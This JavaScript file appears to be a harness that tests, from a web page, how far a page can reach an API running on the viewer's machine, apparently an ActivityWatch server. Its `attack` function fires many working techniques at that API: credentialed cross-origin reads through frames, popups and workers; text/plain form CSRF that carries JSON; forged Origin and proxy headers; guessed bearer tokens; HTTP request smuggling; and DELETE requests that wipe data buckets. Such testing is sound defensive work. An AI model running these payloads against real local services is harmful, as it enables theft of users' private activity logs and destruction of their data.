"use strict";
// What a page can try against an API on the machine that it is looked at on. `attack` tells what it could read.

const PATIENCE_MS = 5000; // for what may never tell
const LOOK_MS = 20;

// Headers that a page must not be able to set (a browser drops them), and headers of proxies, which it can.
const forged = (target) => ({
  Origin: "moz-extension://3f2b1c9d-dead-beef-cafe-000000000000", Host: new URL(target.api).host, Referer: target.api,
  "Sec-Fetch-Site": "none", "Access-Control-Request-Method": "GET",
});
const proxied = (target) => ({
  "X-Forwarded-For": "127.0.0.1", "X-Forwarded-Host": new URL(target.api).host, Forwarded: "for=127.0.0.1",
  "X-HTTP-Method-Override": "DELETE",
});

function patiently(work) {
  const late = new Promise((done) => setTimeout(done, PATIENCE_MS, "silence"));
  return Promise.race([Promise.resolve().then(work), late]).catch((e) => `error ${e.name}`);
}

function until(look) {
  return new Promise((done, failed) => {
    const ask = () => {
      try {
        const found = look();
        if (found) done(found);
        else setTimeout(ask, LOOK_MS);
      } catch (e) {
        failed(e);
      }
    };
    ask();
  });
}

const told = async (answer) => `${answer.type} ${answer.status} ${await answer.text()}`;
const asked = (url, choices) => fetch(url, { credentials: "include", ...choices }).then(told);
const posted = (url, body, choices) => asked(url, { method: "POST", body, ...choices });

// What tells nothing to who sent it is over when it is in the list of what was loaded.
const over = (url) => until(() => performance.getEntriesByName(url).length && "sent");

function xhr(method, url, body, headers = {}) {
  return new Promise((done) => {
    const request = new XMLHttpRequest();
    request.open(method, url);
    request.withCredentials = true;
    for (const [name, value] of Object.entries(headers)) request.setRequestHeader(name, value);
    request.onloadend = () => done(`${request.status} ${request.responseText}`);
    request.send(body);
  });
}

function element(name, choices, read = () => "") {
  return new Promise((done) => {
    const made = Object.assign(document.createElement(name), choices);
    for (const kind of ["load", "error", "loadeddata"]) {
      made.addEventListener(kind, () => patiently(() => `${kind} ${read(made)}`).then(done));
    }
    document.body.append(made);
  });
}

const inside = (frame) => frame.contentDocument?.documentElement?.textContent ?? "";
const rules = (link) => (link.sheet ? [...link.sheet.cssRules].map((rule) => rule.cssText).join() : "");

// A window that goes there: what stands in it, once it is no longer ours to read or is read.
async function seen(opened) {
  if (!opened) return "blocked";
  try {
    return await until(() => {
      const there = opened.location.href !== "about:blank" && opened.document.readyState === "complete";
      return there && `read ${opened.document.documentElement.textContent}`;
    });
  } finally {
    opened.close();
  }
}

function clicked(choices) {
  const link = Object.assign(document.createElement("a"), choices);
  document.body.append(link);
  link.click();
}

function heardFrom(source, begin = () => {}) {
  return new Promise((done) => {
    for (const kind of ["open", "error", "message"]) {
      source.addEventListener(kind, (e) => done(`${kind} ${e.data ?? ""}`));
    }
    begin();
  });
}

const alone = (url, choices, tell) =>
  `fetch(${JSON.stringify(url)}, ${JSON.stringify({ credentials: "include", ...choices })}).then(` +
  `async (a) => ${tell}(a.type + " " + a.status + " " + await a.text())).catch((e) => ${tell}("error " + e.name));`;

function worker(code) {
  const made = new Worker(URL.createObjectURL(new Blob([code])));
  return heardFrom(made);
}

// A frame whose origin is null.
let frames = 0;
function framed(url, fetched, isData) {
  const name = `frame${frames++}`;
  const tell = `((text) => parent.postMessage({ name: "${name}", text }, "*"))`;
  const page = `<script>${alone(url, fetched, tell)}</script>`;
  const frame = document.createElement("iframe");
  if (isData) frame.src = `data:text/html,${encodeURIComponent(page)}`;
  else Object.assign(frame, { sandbox: "allow-scripts", srcdoc: page });
  return new Promise((done) => {
    addEventListener("message", (e) => e.data?.name === name && done(e.data.text));
    document.body.append(frame);
  });
}

const redirected = (target, url) => `${target.own}/redirect?to=${encodeURIComponent(url)}`;
const socket = (url) => heardFrom(new WebSocket(url.replace("http:", "ws:")));
const preloaded = (url, rel) => element("link", { rel, href: url, as: "fetch", crossOrigin: "use-credentials" });

const byName = ["fetch", "no-cors", "img", "iframe", "popup"]; // tried at the API's other names too

const readers = {
  fetch: (url) => asked(url),
  "no-cors": (url) => asked(url, { mode: "no-cors" }),
  guess: (url, target) => asked(url, { headers: { Authorization: `Bearer ${target.guess}` } }),
  forged: (url, target) => asked(url, { headers: forged(target) }),
  "forged-no-cors": (url, target) => asked(url, { mode: "no-cors", headers: forged(target) }),
  proxied: (url, target) => asked(url, { headers: proxied(target) }),
  xhr: (url) => xhr("GET", url),
  "xhr-forged": (url, target) => xhr("GET", url, null, forged(target)),
  img: (url) => element("img", { src: url }, (img) => img.naturalWidth),
  script: (url) => element("script", { src: url }),
  style: (url) => element("link", { rel: "stylesheet", href: url }, rules),
  video: (url) => element("video", { src: url }),
  iframe: (url) => element("iframe", { src: url }, inside),
  object: (url) => element("object", { data: url }, inside),
  popup: (url) => seen(open(url)),
  "popup-user": (url, target) => seen(open(url.replace("//", `//x:${target.guess}@`))),
  link: (url) => clicked({ href: url, target: "_blank", rel: "noreferrer" }) ?? "sent",
  events: (url) => heardFrom(new EventSource(url, { withCredentials: true })),
  socket,
  worker: (url) => worker(alone(url, {}, "postMessage")),
  "worker-script": (url) => worker(`try { importScripts(${JSON.stringify(url)}); postMessage("done"); }
    catch (e) { postMessage("error " + e.name); }`),
  module: (url) => import(url).then((found) => JSON.stringify(found)),
  "json-module": (url) => import(url, { with: { type: "json" } }).then((found) => JSON.stringify(found)),
  preload: (url) => preloaded(url, "preload"),
  prefetch: (url) => preloaded(url, "prefetch"),
  sandboxed: (url) => framed(url, {}),
  "data-frame": (url) => framed(url, {}, true),
  redirected: (url, target) => asked(redirected(target, url)),
  "redirected-no-cors": (url, target) => asked(redirected(target, url), { mode: "no-cors" }),
  "redirected-img": (url, target) => element("img", { src: redirected(target, url) }),
};

function submitted(url, field, choices) {
  const made = Object.assign(document.createElement("form"), { action: url, method: "POST", ...choices });
  if (field) made.append(field);
  document.body.append(made);
  made.submit();
}

// The form's answer in a frame of ours.
function inFrame(url, field, choices) {
  const frame = Object.assign(document.createElement("iframe"), { name: `frame${frames++}` });
  document.body.append(frame); // it loads an empty page at once
  return new Promise((done) => {
    frame.addEventListener("load", () => done(`load ${inside(frame)}`));
    submitted(url, field, { target: frame.name, ...choices });
  });
}

function inWindow(url, field, choices) {
  const opened = open("about:blank", `frame${frames++}`);
  if (opened) submitted(url, field, { target: opened.name, ...choices });
  return seen(opened);
}

// A form can send any JSON that has one equals sign in it: as text/plain it is its field's name, the sign, its value.
function field(body) {
  const [name, value] = body.split("=");
  return Object.assign(document.createElement("input"), { type: "hidden", name, value });
}

function file(body) {
  const made = Object.assign(document.createElement("input"), { type: "file", name: "buckets.json" });
  const held = new DataTransfer();
  held.items.add(new File([body], "buckets.json", { type: "application/json" }));
  made.files = held.files;
  return made;
}

function parts(body) {
  const made = new FormData();
  made.append("buckets.json", new Blob([body]), "buckets.json");
  return made;
}

function beacon(url, body) {
  navigator.sendBeacon(url, body);
  return over(url);
}

const writers = {
  fetch: (url, body) => posted(url, body),
  "no-cors": (url, body) => posted(url, body, { mode: "no-cors" }),
  "no-referrer": (url, body) => posted(url, body, { mode: "no-cors", referrerPolicy: "no-referrer" }),
  keepalive: (url, body) => posted(url, body, { mode: "no-cors", keepalive: true }),
  json: (url, body) => posted(url, body, { headers: { "Content-Type": "application/json" } }),
  guess: (url, body, target) => posted(url, body, { headers: { Authorization: `Bearer ${target.guess}` } }),
  forged: (url, body, target) => posted(url, body, { mode: "no-cors", headers: forged(target) }),
  xhr: (url, body) => xhr("POST", url, body),
  beacon,
  "json-beacon": (url, body) => beacon(url, new Blob([body], { type: "text/plain" })),
  form: (url, body) => inFrame(url, field(body), { enctype: "text/plain" }),
  "form-window": (url, body) => inWindow(url, field(body), { enctype: "text/plain" }),
  "form-redirected": (url, body, target) => inFrame(redirected(target, url), field(body), { enctype: "text/plain" }),
  worker: (url, body) => worker(alone(url, { method: "POST", body, mode: "no-cors" }, "postMessage")),
  sandboxed: (url, body) => framed(url, { method: "POST", body, mode: "no-cors" }),
  "data-frame": (url, body) => framed(url, { method: "POST", body, mode: "no-cors" }, true),
  redirected: (url, body, target) => posted(redirected(target, url), body, { mode: "no-cors" }),
};

const addressed = (target, api, path, way) =>
  `${api}${path}${path.includes("?") ? "&" : "?"}from=${target.from}&way=${way}`;

const bucketOf = (target, way) => `aw-watcher-web-${target.from}-${way}`;

function writes(target, way) {
  const { at, bucket, from } = target;
  const page = { url: "https://a.example/", title: "a=b", audible: false, incognito: false };
  const beat = JSON.stringify({ timestamp: at, duration: 1, data: page });
  const file = { id: `import-${from}-${way}`, type: "t=t", client: "c", hostname: "h", created: at, events: [] };
  return [
    [`/api/0/settings/${from}-${way}`, '"a=b"'],
    [`/api/0/buckets/${bucketOf(target, way)}`, '{"type":"web.tab.current","client":"a=b","hostname":"h"}'],
    [`/api/0/buckets/${bucket}/heartbeat?pulsetime=60`, beat],
    [`/api/0/buckets/${bucket}/events`, beat],
    ["/api/0/import", JSON.stringify({ buckets: { [file.id]: file } })],
    ["/v1/labels", JSON.stringify({ start: target.before, end: at, state: "focused", because: "a=b" })],
    [target.changes, '{"minutes":5,"because":"a=b"}'],
  ];
}

function queried(target, way, choices) {
  const query = [`RETURN = query_bucket("${target.bucket}");`];
  const body = JSON.stringify({ query, timeperiods: [`${target.before}/${target.after}`] });
  return posted(addressed(target, target.api, "/api/0/query", way), body, choices);
}

// A whole request in the body of another: whoever loses count of bytes takes it for a caller's without an origin.
function smuggled(target) {
  const inner = (path, body) =>
    `POST ${path} HTTP/1.1\r\nHost: ${new URL(target.api).host}\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
  const all = writes(target, "smuggled").map(([path, body]) => inner(path, body));
  return posted(addressed(target, target.api, "/api/0/nothing", "smuggled"), all.join(""), { mode: "no-cors" });
}

// What fits none of the tables.
const others = {
  query: (target) => queried(target, "query"),
  "query-no-cors": (target) => queried(target, "query-no-cors", { mode: "no-cors" }),
  smuggled,
  "form-empty": (target, url) => inFrame(url(target.changes)),
  "form-file": (target, url) =>
    inFrame(url("/api/0/import"), file(writes(target, "form-file")[4][1]), { enctype: "multipart/form-data" }),
  "fetch-file": (target, url) =>
    posted(url("/api/0/import"), parts(writes(target, "fetch-file")[4][1]), { mode: "no-cors" }),
  ping: (target, url) => clicked({ href: "#", ping: url(target.changes) }) ?? over(url(target.changes)),
};

const destroyers = {
  put: (target, url) => asked(url(`/api/0/buckets/${target.bucket}`), { method: "PUT", body: '{"client":"b"}' }),
  delete: (target, url) => asked(url(`/api/0/buckets/${target.bucket}?force=1`), { method: "DELETE" }),
  "delete-xhr": (target, url) => xhr("DELETE", url(`/api/0/buckets/${target.bucket}?force=1`)),
};

// What the browser itself says of what was loaded: nothing, of another origin's.
function timed(target) {
  const of = performance.getEntriesByType("resource").filter((entry) => entry.name.includes(`from=${target.from}`));
  return of.map((e) => ["timing", e.name, `${e.responseStatus} ${e.encodedBodySize} ${e.transferSize}`]);
}

async function attack(target) {
  performance.setResourceTimingBufferSize(10000);
  const reads = [
    // First what a frame or a window shows: an export is a download, of which neither could tell anything.
    `/api/0/buckets/${target.bucket}/events`, "/api/0/info", "/api/0/buckets/", "/api/0/export", "/api/0/settings",
    "/v1/now", `/v1/segments?start=${encodeURIComponent(target.before)}&end=${encodeURIComponent(target.after)}`,
    "/v1/docs",
  ];
  const report = [];
  const tries = (way, url, work) => patiently(work).then((got) => report.push([way, url, String(got)]));
  const tried = (table) => Object.entries(table).filter(([way]) => !target.without.includes(way));
  const each = (table, pick) => Promise.all(tried(table).flatMap(([way, does]) => pick(way, does)));
  await each(readers, (way, does) => {
    const urls = (way === "fetch" ? reads : reads.slice(0, 1)).map((path) => addressed(target, target.api, path, way));
    for (const api of byName.includes(way) ? target.names : []) urls.push(addressed(target, api, reads[0], way));
    return urls.map((url) => tries(`read ${way}`, url, () => does(url, target)));
  });
  await each(writers, (way, does) => writes(target, way).map(([path, body]) => {
    const url = addressed(target, target.api, path, way);
    return tries(`write ${way}`, url, () => does(url, body, target));
  }));
  for (const table of [others, destroyers]) {
    await each(table, (way, does) => [
      tries(way, target.api, () => does(target, (path) => addressed(target, target.api, path, way))),
    ]);
  }
  return report.concat(timed(target));
}
